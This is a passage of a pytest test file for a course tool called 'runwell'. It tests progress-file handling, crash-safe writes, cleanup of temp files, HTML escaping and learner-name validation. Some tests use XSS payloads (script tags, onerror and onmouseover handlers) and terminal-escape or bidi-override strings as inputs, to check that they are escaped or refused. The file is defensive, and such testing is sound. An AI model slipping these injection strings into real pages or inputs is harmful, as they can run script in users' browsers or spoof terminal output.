    """In a read-only folder the corrupt file cannot be moved. A subprocess cannot make root's
    rename fail, so the refusal is made in-process, where the system call is."""
    from runwell import progress

    path = tmp_path / "progress.json"
    path.write_text(DEEP, encoding="utf-8")

    def refuse(*args: object) -> None:
        raise PermissionError(13, "Permission denied", str(path))

    monkeypatch.setattr(os, "replace", refuse)
    assert progress.load(path)["answers"] == {}
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "cannot be moved aside" in err
    assert path.read_text(encoding="utf-8") == DEEP


def test_runwell_progress_under_a_file_is_one_line(tmp_path: Path) -> None:
    (tmp_path / "blocker").write_text("a file", encoding="utf-8")
    under = str(tmp_path / "blocker" / "progress.json")
    proc = runwell(tmp_path, "progress", RUNWELL_PROGRESS=under)
    assert proc.returncode == 0 and "no quiz answers saved yet" in proc.stdout
    one_line(runwell(tmp_path, "progress", "--learner", "Ana", RUNWELL_PROGRESS=under),
             "blocker is a file, not a folder")
    (tmp_path / "a-folder").mkdir()
    one_line(runwell(tmp_path, "progress", "--reset", "--yes",
                     RUNWELL_PROGRESS=str(tmp_path / "a-folder")), "is a folder")


def test_check_outside_a_course_is_one_line(tmp_path: Path) -> None:
    (tmp_path / "blocker").write_text("a file", encoding="utf-8")
    one_line(runwell(tmp_path, "check", "--root", tmp_path / "blocker"), "not a course folder")
    one_line(runwell(tmp_path, "check", "--root", tmp_path / "nowhere"), "not a course folder")


# ------------------------------------------------- 8. litter from interrupted writes


def _age(path: Path, seconds: float = 3600) -> None:
    past = time.time() - seconds
    os.utime(path, (past, past))


def test_a_killed_handout_build_leaves_a_staging_folder_the_next_run_removes(
    tiny: Path, tmp_path: Path
) -> None:
    out = tmp_path / "handouts"
    cmd = [sys.executable, "-m", "runwell", "handouts", "--root", str(tiny), "--out", str(out)]
    proc = subprocess.Popen(cmd, cwd=tmp_path, env=env_for(tmp_path),
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    stages: list[Path] = []
    deadline = time.monotonic() + TIMEOUT
    while proc.poll() is None and time.monotonic() < deadline:
        stages = list(tmp_path.glob(".handouts.*.tmp"))
        if stages:
            proc.send_signal(signal.SIGKILL)
            break
        time.sleep(0.005)
    proc.wait(30)
    assert stages and proc.returncode == -signal.SIGKILL, "the build ended before it was killed"
    assert all(s.is_dir() for s in stages)  # what kill -9 left behind
    decoy = tmp_path / ".handouts.not-ours.tmp"
    decoy.mkdir()
    (decoy / "keep.txt").write_text("someone else's", encoding="utf-8")
    again = runwell(tmp_path, "handouts", "--root", tiny, "--out", out)
    assert again.returncode == 0, again.stderr
    assert "left by an interrupted build" in again.stdout
    assert not any(s.exists() for s in stages)
    assert (decoy / "keep.txt").exists()
    assert {p.name for p in out.glob("*.html")} == PAGES
    assert (out / HANDOUTS_MANIFEST).is_file()


def test_temporary_files_of_interrupted_writes_are_swept_by_the_next_run(
    tiny: Path, tmp_path: Path
) -> None:
    # progress: what kill -9 during a save leaves
    home = tmp_path / "home"
    write_json(home / "progress.json", progress_doc("Ana"))
    stale = home / ".progress.json.k1ll3d00.tmp"
    stale.write_text('{"half', encoding="utf-8")
    keep = home / "progress.json.notes"
    keep.write_text("mine", encoding="utf-8")
    assert runwell(tmp_path, "progress", "--learner", "Ana").returncode == 0
    assert not stale.exists() and keep.exists()
    # report: an old temporary file beside each output goes, a fresh one may be a writer's
    good = write_json(tmp_path / "a.json", progress_doc("Ana"))
    old = [tmp_path / ".class.csv.abcd1234.tmp", tmp_path / ".class-learners.csv.efgh5678.tmp",
           tmp_path / ".class.html.ijkl9012.tmp"]
    for path in old:
        path.write_text("half a report", encoding="utf-8")
        _age(path)
    fresh = tmp_path / ".class.csv.mnop3456.tmp"
    fresh.write_text("being written right now", encoding="utf-8")
    proc = runwell(tmp_path, "report", good, "--csv", tmp_path / "class.csv",
                   "--html", tmp_path / "class.html")
    assert proc.returncode == 0, proc.stderr
    assert not any(p.exists() for p in old) and fresh.exists()
    # student: the same, in the learners' folder
    out = tmp_path / "student"
    assert runwell(tmp_path, "student", "--root", tiny, "--out", out).returncode == 0
    leftovers = [out / ".01_try.ipynb.qrst7890.tmp", out / "..runwell-student.json.uvwx1234.tmp"]
    for path in leftovers:
        path.write_text("half a notebook", encoding="utf-8")
        _age(path)
    assert runwell(tmp_path, "student", "--root", tiny, "--out", out).returncode == 0
    assert not any(p.exists() for p in leftovers)


# ------------------------------------------------- what must keep holding


def test_html_outputs_escape_learner_and_notebook_text(tiny: Path, tmp_path: Path) -> None:
    xss = '<script>alert(1)</script><img src=x onerror="alert(2)">'
    good = write_json(tmp_path / "a.json", progress_doc(xss))
    assert runwell(tmp_path, "report", good, "--html", tmp_path / "r.html").returncode == 0
    html = (tmp_path / "r.html").read_text(encoding="utf-8")
    assert "<script" not in html.lower() and "<img" not in html.lower()
    assert "&lt;script&gt;" in html
    nbformat.write(lesson("Alpha <b>x</b> & co"), tiny / "notebooks" / "01_alpha.ipynb")
    out = tmp_path / "h"
    assert runwell(tmp_path, "handouts", "--root", tiny, "--out", out).returncode == 0
    # the title, as the index and the neighbour's navigation show it, is text
    for name in ("index.html", "02_beta.html"):
        text = (out / name).read_text(encoding="utf-8")
        assert "Alpha &lt;b&gt;x&lt;/b&gt; &amp; co" in text, name
    # a page that would run code (a script, an event handler) is refused in one line, leaving
    # the handouts as they were
    before = snapshot(out)
    for title, what in (("Alpha <b onmouseover=alert(1)>x</b>", "onmouseover="),
                        ("Alpha <script>alert(1)</script>", "<script>")):
        nbformat.write(lesson(title), tiny / "notebooks" / "01_alpha.ipynb")
        one_line(runwell(tmp_path, "handouts", "--root", tiny, "--out", out), what)
        assert snapshot(out) == before


def test_the_lock_and_atomic_writes_survive_kill_9(tmp_path: Path) -> None:
    path = tmp_path / "home" / "progress.json"
    writer = (
        "import itertools\n"
        "from pathlib import Path\n"
        "from runwell import progress\n"
        f"path = Path({str(path)!r})\n"
        "for i in itertools.count():\n"
        "    progress.record('06_review', f'q-{i % 50}', float(i), path=path)\n"
    )
    procs = [subprocess.Popen([sys.executable, "-c", writer], env=env_for(tmp_path))
             for _ in range(2)]
    deadline = time.monotonic() + 60
    while not path.exists() and time.monotonic() < deadline:
        time.sleep(0.05)
    time.sleep(1.0)
    for p in procs:
        p.send_signal(signal.SIGKILL)
    for p in procs:
        p.wait(30)
    doc = parse(path.read_bytes())  # a whole file, never half of one
    assert doc["answers"]["06_review"]
    proc = runwell(tmp_path, "progress", "--learner", "Ana", timeout=60)  # the lock is free
    assert proc.returncode == 0, proc.stderr
    assert not list(path.parent.glob(".progress.json.*.tmp"))
    after = parse(path.read_bytes())
    assert after["learner"] == "Ana" and after["answers"] == doc["answers"]  # nothing lost


LEGIT_NAMES = [
    "\u0645\u0647\u062f\u06cc\u200c\u0632\u0627\u062f\u0647",  # Persian with a ZWNJ
    "\U0001f469\u200d\U0001f4bb Ana",  # woman technologist: ZWJ emoji
    "Ana\u00a0María",  # no-break space
    "Zoë O'Brien-Łukasz",
]


@pytest.mark.parametrize("name", LEGIT_NAMES, ids=["zwnj", "zwj", "nbsp", "latin"])
def test_legitimate_learner_names_are_accepted_and_shown_as_written(
    tmp_path: Path, name: str
) -> None:
    proc = runwell(tmp_path, "progress", "--learner", name)
    assert proc.returncode == 0, proc.stderr
    assert name in proc.stdout
    path = tmp_path / "home" / "progress.json"
    assert parse(path.read_bytes())["learner"] == name
    report = runwell(tmp_path, "report", path, "--csv", tmp_path / "c.csv")
    assert report.returncode == 0, report.stderr
    assert name in report.stdout
    assert csv_rows(tmp_path / "c-learners.csv")[1][0] == name


@pytest.mark.parametrize("name", ["Eve\x1b[2J", "Eve\u202egnp", "Eve\nMallory", "Eve\u200b",
                                  "\x9b31mEve"])
def test_control_and_invisible_characters_in_learner_names_are_refused(
    tmp_path: Path, name: str
) -> None:
    one_line(runwell(tmp_path, "progress", "--learner", name), "the learner name")
    assert not (tmp_path / "home" / "progress.json").exists()


def test_an_os_error_no_handler_words_is_still_one_line(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """The command line's last resort: an OS error that escapes a handler is ``path: reason``;
    RUNWELL_DEBUG=1 shows the traceback, and programming errors are never hidden. (In-process:
    only a stand-in handler can raise an error no real handler lets escape.)"""
    import types

    from runwell import cli

    def handler(exc: BaseException) -> None:
        module = types.SimpleNamespace(command=lambda args: (_ for _ in ()).throw(exc))
        monkeypatch.setattr(cli.importlib, "import_module", lambda name: module)

    monkeypatch.delenv("RUNWELL_DEBUG", raising=False)
    handler(PermissionError(13, "Permission denied", "/srv/class\x1b[2J/out.csv"))
    assert cli.main(["check"]) == 1
    err = capsys.readouterr().err
    assert err == "runwell check: /srv/class?[2J/out.csv: permission denied\n"
    monkeypatch.setenv("RUNWELL_DEBUG", "1")
    with pytest.raises(PermissionError):
        cli.main(["check"])
    monkeypatch.delenv("RUNWELL_DEBUG")
    handler(TypeError("a bug"))
    with pytest.raises(TypeError):
        cli.main(["check"])
